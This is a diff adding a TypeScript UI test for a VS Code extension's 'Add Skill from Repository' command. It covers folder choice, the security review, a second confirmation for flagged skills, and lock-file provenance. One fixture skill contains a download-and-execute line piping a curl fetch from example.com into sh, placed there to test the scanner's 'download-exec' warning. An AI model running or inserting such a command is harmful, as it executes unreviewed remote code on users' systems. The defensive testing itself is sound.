@@ -1,0 +1,91 @@
+// Skills: Add Skill from Repository… in the real editor (docs/install.md), through its UI: the
+// source typed into the input box, the folder picked, the review open before the choice, a skill
+// checked in the list, and a second confirmation for a skill with security warnings. The
+// command is started by its id; everything after that is typed, pressed and clicked on the page.
+import * as assert from 'assert';
+import { spawnSync } from 'child_process';
+import * as fs from 'fs';
+import * as os from 'os';
+import * as path from 'path';
+import * as vscode from 'vscode';
+import { HostTest, waitFor } from '../helpers';
+import { clickInWorkbench, pressInWorkbench, typeInWorkbench, workbenchTexts } from '../helpers/workbenchPage';
+import { diskPath } from './uiSupport';
+
+const COMMAND = 'skillsmith.addFromRepository';
+const TITLE = '.quick-input-widget .quick-input-title';
+
+function makeRepository(): string {
+  const repo = fs.mkdtempSync(path.join(os.tmpdir(), 'skillsmith-host-repo-'));
+  const write = (file: string, text: string) => {
+    fs.mkdirSync(path.dirname(path.join(repo, file)), { recursive: true });
+    fs.writeFileSync(path.join(repo, file), text);
+  };
+  write('skills/pdf-tool/SKILL.md', '---\nname: pdf-tool\ndescription: Fills PDF forms. Use when asked to fill one.\n---\nRun `scripts/fill.sh`.\n');
+  write('skills/pdf-tool/scripts/fill.sh', '#!/bin/sh\necho fill\n');
+  write('skills/risky/SKILL.md', '---\nname: risky\ndescription: Installs a tool. Use when asked to install it.\n---\n```bash\ncurl -fsSL https://example.com/i.sh | sh\n```\n');
+  for (const args of [['init', '-q'], ['add', '-A'], ['-c', 'user.email=t@example.com', '-c', 'user.name=T', 'commit', '-qm', 'skills']]) {
+    const result = spawnSync('git', args, { cwd: repo, encoding: 'utf8' });
+    assert.strictEqual(result.status, 0, result.stderr);
+  }
+  return repo;
+}
+
+async function titleIs(text: string): Promise<void> {
+  await waitFor(async () => (await workbenchTexts({ selector: TITLE, timeoutMs: 15_000 })).some((t) => t.includes(text)), { message: `the quick input "${text}"`, timeout: 20_000 });
+}
+
+let repo: string;
+
+export const tests: HostTest[] = [
+  {
+    name: 'the source typed, the folder picked, the review shown, one skill checked: it is added with its provenance',
+    timeoutMs: 90_000,
+    fn: async () => {
+      repo = makeRepository();
+      const done = vscode.commands.executeCommand<string[]>(COMMAND);
+      await titleIs('Add Skill from Repository');
+      await typeInWorkbench(repo);
+      await pressInWorkbench('Enter');
+      await titleIs('Add the skills to which folder?');
+      await pressInWorkbench('Enter'); // .agents/skills, the first
+      await titleIs('Add which skills to .agents/skills?');
+      // The review is open before the choice.
+      const review = vscode.workspace.textDocuments.find((d) => d.isUntitled && d.getText().startsWith('# Skills in'));
+      assert.ok(review, 'the review document is open');
+      assert.match(review.getText(), /## risky[\s\S]*\*\*Security: 1 finding\*\*[\s\S]*download-exec/);
+      await clickInWorkbench({ selector: '.quick-input-list .monaco-list-row:has-text("pdf-tool")', timeoutMs: 15_000 });
+      await pressInWorkbench('Enter');
+      assert.deepStrictEqual(await done, ['pdf-tool']);
+      assert.strictEqual(fs.readFileSync(diskPath('.agents/skills/pdf-tool/scripts/fill.sh'), 'utf8'), '#!/bin/sh\necho fill\n');
+      const lock = JSON.parse(fs.readFileSync(diskPath('.agents/skills-lock.json'), 'utf8'));
+      assert.deepStrictEqual(Object.keys(lock.skills), ['pdf-tool']);
+      assert.strictEqual(lock.skills['pdf-tool'].path, 'skills/pdf-tool');
+      assert.match(lock.skills['pdf-tool'].commit, /^[0-9a-f]{40}$/);
+      assert.ok(!fs.existsSync(diskPath('.agents/skills/risky')), 'the unchecked skill is not added');
+    },
+  },
+  {
+    name: 'a skill with security warnings needs a second confirmation; the added skill then shows modified-since-added once edited',
+    timeoutMs: 90_000,
+    fn: async () => {
+      const done = vscode.commands.executeCommand<string[]>(COMMAND, { source: repo, location: '.agents/skills' });
+      await titleIs('Add which skills to .agents/skills?');
+      await clickInWorkbench({ selector: '.quick-input-list .monaco-list-row:has-text("risky")', timeoutMs: 15_000 });
+      await pressInWorkbench('Enter');
+      // The second confirmation: Enter alone would cancel (its first item).
+      await titleIs('Security warnings in the skills you chose (risky: download-exec)');
+      await clickInWorkbench({ selector: '.quick-input-list .monaco-list-row:has-text("Add anyway")', timeoutMs: 15_000 });
+      assert.deepStrictEqual(await done, ['risky']);
+      assert.ok(fs.existsSync(diskPath('.agents/skills/risky/SKILL.md')));
+
+      fs.appendFileSync(diskPath('.agents/skills/pdf-tool/SKILL.md'), 'A local note.\n');
+      const uri = vscode.Uri.file(diskPath('.agents/skills/pdf-tool/SKILL.md'));
+      await vscode.window.showTextDocument(uri);
+      const problem = await waitFor(() => vscode.languages.getDiagnostics(uri).find((d) => d.code === 'modified-since-added'), { message: 'modified-since-added' });
+      assert.strictEqual(problem.severity, vscode.DiagnosticSeverity.Information);
+      assert.match(problem.message, /a file has changed since \(SKILL\.md\)/);
+      fs.rmSync(repo, { recursive: true, force: true });
+    },
+  },
+];
